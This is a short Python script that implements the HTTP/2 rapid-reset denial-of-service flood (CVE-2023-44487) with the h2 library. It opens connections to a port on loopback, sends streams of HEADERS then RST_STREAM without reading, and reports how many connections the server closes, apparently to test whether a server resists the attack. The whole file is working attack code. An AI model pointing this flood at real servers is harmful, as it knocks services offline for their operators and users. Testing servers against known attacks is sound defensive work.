"""An HTTP/2 rapid-reset flood (CVE-2023-44487) with the `h2` library, on
loopback: CONNECTIONS connections one after another, each sending up to
STREAMS times HEADERS then RST_STREAM without reading, until the server
closes it.

Usage: rapid_reset.py PORT CONNECTIONS STREAMS
Prints "opened N closed-by-server M".
"""

import socket
import sys

import h2.config
import h2.connection


def connect(port):
    """A client connection to `port`: its socket and its `h2` state, the
    preface queued to go with the first stream."""
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    return s, conn


def reset_streams(s, conn, streams):
    """Up to `streams` times HEADERS then RST_STREAM on `conn`, without
    reading; whether the server closed it before the last stream."""
    try:
        for _ in range(streams):
            sid = conn.get_next_available_stream_id()
            headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "x")]
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid)
            s.sendall(conn.data_to_send())
        return False
    except OSError:
        return True


def flood(port, streams):
    """One connection; whether the server closed it before the last stream."""
    s, conn = connect(port)
    try:
        return reset_streams(s, conn, streams)
    finally:
        s.close()


def main():
    port, connections, streams = (int(a) for a in sys.argv[1:4])
    closed = sum(flood(port, streams) for _ in range(connections))
    print(f"opened {connections} closed-by-server {closed}")


if __name__ == "__main__":
    main()
